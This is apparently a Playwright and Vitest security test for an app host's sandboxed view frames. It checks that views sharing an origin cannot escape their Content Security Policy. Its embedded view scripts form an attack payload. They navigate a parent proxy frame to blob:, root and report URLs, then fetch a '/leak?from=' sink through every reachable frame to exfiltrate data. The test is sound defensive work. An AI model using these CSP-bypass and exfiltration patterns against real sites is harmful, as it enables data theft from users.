// A server's views share one origin, and a view can script its own proxy frame: in real Chromium, views of one server
// try to turn a frame on that origin into a document without their CSP — navigating their proxy to the relay's old
// script address, to the origin's root, to a CSP report address and to a blob: document of their own — and then a
// sibling view fetches an undeclared origin through every frame it can reach. Nothing may arrive there.
import { createServer, type Server } from 'node:http';
import { join } from 'node:path';
import type { Browser } from 'playwright-core';
import { afterEach, describe, expect, it } from 'vitest';
import { VIEW_SANDBOX } from '../../main/core/apps/index.js';
import { startViewFrames, type ViewFramesServer } from '../../main/web/view-frames.js';
import { launchChromium } from '../helpers/browser.js';
import { addApproved, makeHost, type TestHost } from '../helpers/host.js';
import { FIXTURES, NODE } from '../helpers/paths.js';

const cleanup: Array<() => unknown> = [];
afterEach(async () => {
  for (const step of cleanup.splice(0).reverse()) await step();
});

async function listen(server: Server): Promise<string> {
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  cleanup.push(
    () =>
      new Promise<void>((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  );
  const address = server.address();
  return `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}`;
}

/** A view that, once written, scripts its proxy frame (its parent, on its own origin) into navigating to `target`. */
const mover = (target: string) => `<!doctype html><html><body>mover<script>
  const s = parent.document.createElement('script');
  s.textContent = ${JSON.stringify(target)};
  parent.document.body.appendChild(s);
</script></body></html>`;

const MOVERS = [
  "location.href = '/proxy.js'",
  "location.href = '/'",
  "location.href = '/csp-report/' + 'A'.repeat(24)",
  "location.href = URL.createObjectURL(new Blob(['<p>blob</p>'], { type: 'text/html' }))",
];

/** The sibling: on the host's word, fetches the sink from inside every frame of Steward's page it can reach. */
const sibling = (sink: string) => `<!doctype html><html><body>sibling<script>
  window.addEventListener('message', async (event) => {
    if (!event.data || event.data.method !== 'probe/go') return;
    const tried = [];
    const frames = [];
    for (let i = 0; i < top.frames.length; i++) {
      frames.push(top.frames[i]);
      try { for (let j = 0; j < top.frames[i].frames.length; j++) frames.push(top.frames[i].frames[j]); } catch (e) {}
    }
    for (const w of frames) {
      let href = 'unreadable';
      try { href = w.location.href; } catch (e) { continue; }
      try { await w.fetch(${JSON.stringify(sink)} + '/leak?from=' + encodeURIComponent(href)); tried.push(href + ': fetched'); }
      catch (e) { tried.push(href + ': blocked'); }
    }
    top.postMessage({ probe: 'done', tried }, '*');
  });
  top.postMessage({ probe: 'ready' }, '*');
</script></body></html>`;

const HOST_SCRIPT = `
const views = JSON.parse(document.getElementById('views').textContent);
window.probe = { ready: 0, done: null };
const frames = views.map((v) => {
  const f = document.createElement('iframe');
  f.setAttribute('sandbox', ${JSON.stringify(VIEW_SANDBOX)});
  f.src = v.url;
  document.body.appendChild(f);
  return f;
});
window.addEventListener('message', (e) => {
  if (e.data && e.data.probe === 'ready') window.probe.ready += 1;
  else if (e.data && e.data.probe === 'done') window.probe.done = e.data.tried;
  const i = frames.findIndex((f) => f.contentWindow === e.source);
  if (i >= 0 && e.data && e.data.method === 'ui/notifications/sandbox-proxy-ready') {
    e.source.postMessage({ jsonrpc: '2.0', method: 'ui/notifications/sandbox-resource-ready', params: { html: views[i].html } }, '*');
  }
});
window.go = () => frames[frames.length - 1].contentWindow.postMessage({ jsonrpc: '2.0', method: 'probe/go' }, '*');
`;

describe('a view origin shared by one server’s views', () => {
  it('serves no document a view can use to step outside its CSP', async () => {
    const hits: string[] = [];
    const sink = await listen(
      createServer((req, res) => {
        hits.push(req.url ?? '');
        res.writeHead(200, { 'access-control-allow-origin': '*' }).end('ok');
      }),
    );
    let page = '';
    const hostServer = createServer((req, res) => {
      if (req.url === '/host.js') res.writeHead(200, { 'content-type': 'text/javascript' }).end(HOST_SCRIPT);
      else
        res
          .writeHead(200, { 'content-type': 'text/html', 'content-security-policy': `default-src 'none'; script-src 'self'; frame-src http://*.localhost:*` })
          .end(page);
    });
    const hostOrigin = await listen(hostServer);

    const t: TestHost = await makeHost();
    cleanup.push(() => t.close());
    const frames: ViewFramesServer = await startViewFrames({ apps: t.host.apps, hostOrigins: () => new Set([hostOrigin]) });
    cleanup.push(() => frames.close());
    t.host.apps.attachFrames({ hostOrigins: () => new Set([hostOrigin]), url: (label, token) => `${frames.originOf(label)}/proxy/${token}` });
    const { view, approve } = await addApproved(t.host, 'fixture', NODE, [join(FIXTURES, 'apps-server.mjs')]);
    await approve();

    const htmls = [...MOVERS.map(mover), sibling(sink)];
    const views: Array<{ url: string; html: string }> = [];
    for (const html of htmls) views.push({ url: (await t.host.apps.open(view.id, 'show-card', hostOrigin)).proxyUrl, html });
    expect(new Set(views.map((v) => new URL(v.url).host)).size).toBe(1);
    const data = JSON.stringify(views).replace(/</g, '\\u003c');
    page = `<!doctype html><html><body><script type="application/json" id="views">${data}</script><script src="/host.js"></script></body></html>`;

    const browser: Browser = await launchChromium();
    cleanup.push(() => browser.close());
    const tab = await browser.newPage();
    await tab.goto(`${hostOrigin}/`);
    await tab.waitForFunction(() => (globalThis as unknown as { probe: { ready: number } }).probe.ready === 1, undefined, { timeout: 30_000 });
    // Every mover's proxy frame has left its proxy page (for the page it asked for, or for an error page).
    await expect.poll(() => tab.frames().filter((f) => f.parentFrame() === tab.mainFrame() && !/\/proxy\/[\w-]+$/.test(f.url())).length).toBe(MOVERS.length);
    await tab.evaluate(() => (globalThis as unknown as { go: () => void }).go());
    const tried = await tab.waitForFunction(() => (globalThis as unknown as { probe: { done: string[] | null } }).probe.done, undefined, { timeout: 30_000 });
    const outcomes = (await tried.jsonValue()) as string[];

    expect(hits).toEqual([]);
    // The sibling did reach the frames on its origin that are left (its own proxy and document) and was blocked in each;
    // every mover's frame holds an error page (a refusal may not be framed) or a document under the mover's policy.
    expect(outcomes.length).toBeGreaterThanOrEqual(2);
    for (const outcome of outcomes) expect(outcome).toMatch(/: blocked$/);
  });
});
